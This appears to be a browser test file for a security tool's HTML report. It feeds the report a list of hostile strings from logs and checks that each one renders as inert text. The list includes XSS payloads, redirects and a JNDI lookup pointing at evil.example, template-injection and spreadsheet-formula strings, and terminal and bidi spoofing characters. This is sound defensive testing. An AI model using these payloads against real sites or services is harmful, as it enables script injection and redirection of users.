/** Text from a log that wants to be more than text, in every field, in a real browser. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { htmlReport } from "../../src/report/html.ts";
import { CHROMIUM, launch } from "./chromium.ts";
import { resultOf, type Shape } from "./results.ts";
import { openFile, overflow } from "./watched-page.ts";

const PAYLOADS = [
  "</script><script>alert(1)</script>",
  "</div></main><img src=x onerror=alert(1)>",
  "<!--<script>alert(1)//-->",
  `"><a href="javascript:alert(1)" onclick=alert(1) style="position:fixed;inset:0">x</a>`,
  "<svg><animate onbegin=alert(1) attributeName=x></svg><style>*{display:none}</style>",
  `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the lookup is meant as it stands
  "${jndi:ldap://evil.example/a} {{constructor.constructor('alert(1)')()}}",
  "\u001b[2J\u001b]0;title\u0007\u0000\r\n",
  "\u202egnp.exe\u2066 \u05d0\u05d1 \u200b",
  `=HYPERLINK("https://evil.example","x")`,
  "\ud800 \udc00 \u2028\u2029",
  "__proto__",
  "constructor",
  "x".repeat(5000),
  `Z${"\u0301".repeat(300)}`,
];

const LARGE: Partial<Shape> = { incidents: 2000, detectionsEach: 10, samplesEach: 2, alsoSeen: 600 };

describe.skipIf(CHROMIUM === undefined)("hostile text", () => {
  let browser: Browser;
  let folder: string;
  let number = 0;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "vedette-hostile-"));
    browser = await launch();
  });

  afterAll(async () => {
    await browser?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Opens everything in the report, and gives back what it did that a report must not do. */
  async function misdeedsOf(
    shape: Partial<Shape>,
    look?: (page: Page) => Promise<void>,
    options: BrowserContextOptions = {},
  ): Promise<string[]> {
    const file = join(folder, `${number++}.html`);
    writeFileSync(file, htmlReport(resultOf(shape)));
    const { page, misdeeds } = await openFile(browser, file, options);
    await page.getByRole("button", { name: "Expand all" }).click();
    await page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true");
    await page.waitForTimeout(50);
    expect(await page.evaluate(FOREIGN)).toEqual([]);
    await look?.(page);
    const seen = await misdeeds();
    await page.context().close();
    return seen;
  }

  test.each(PAYLOADS.map((payload) => [payload.slice(0, 60), payload]))(
    "%j in every field",
    async (_, payload) => {
      const misdeeds = await misdeedsOf({ text: () => payload }, async (page) => {
        expect(await overflow(page)).toBe(0);
        expect(await page.locator(".incident").count()).toBe(3);
        await page.setViewportSize({ width: 360, height: 800 });
        expect(await overflow(page)).toBe(0);
      });
      expect(misdeeds).toEqual([]);
    },
  );

  test("all of them in 2,000 incidents and 20,000 detections, quickly enough to use", async () => {
    let next = 0;
    const text = () => PAYLOADS[next++ % PAYLOADS.length] ?? "";
    const misdeeds = await misdeedsOf({ ...LARGE, text }, async (page) => {
      const before = Date.now();
      await page.getByLabel("Search incidents").fill("jndi");
      await page.getByLabel("Order").selectOption("latest");
      await page.getByRole("button", { name: /^Show/ }).first().click();
      expect(Date.now() - before).toBeLessThan(10_000);
    });
    expect(misdeeds).toEqual([]);
  }, 120_000);

  test("whatever it is, even where the policy does not hold", async () => {
    const piece = fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.string({ unit: "binary", maxLength: 40 }),
      fc.string({ unit: fc.constantFrom(..."<>\"'&/=`\\;:-!{}$()abcimgsrp \n") }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 12 }), async (pieces) => {
        let next = 0;
        const text = () => pieces[next++ % pieces.length] ?? "";
        expect(await misdeedsOf({ text }, undefined, { bypassCSP: true })).toEqual([]);
      }),
      { numRuns: 15 },
    );
  }, 120_000);

  test("it is shown as it was written, with what cannot be seen as escapes", async () => {
    await misdeedsOf({ text: () => "<b>\u202eabc\u001b[31m</b>" }, async (page) => {
      const shown = "<b>\\u{202e}abc\\x1b[31m</b>";
      expect(await page.locator(".incident .title").first().innerText()).toBe(shown);
      expect(await page.locator(".evidence .request > .log").first().innerText()).toBe(shown);
    });
  });
});

/** Elements and attributes that the page never makes: whatever is found came from the text. */
const FOREIGN = `
  [...document.querySelectorAll("#report *")].flatMap((element) => {
    const name = element.localName;
    const own = ${JSON.stringify(
      "a article b bdi button caption circle code dd details div dl dt figcaption figure h1 h2 h3 h4 header i input li main mark nav ol option p path rect section select span summary svg table tbody td th thead tr ul".split(
        " ",
      ),
    )};
    const attributes = element.getAttributeNames().filter((each) => each.startsWith("on") || each === "src");
    const link = name === "a" && !element.getAttribute("href").startsWith("#") ? ["link"] : [];
    return [...(own.includes(name) ? [] : [name]), ...attributes, ...link];
  })
`;
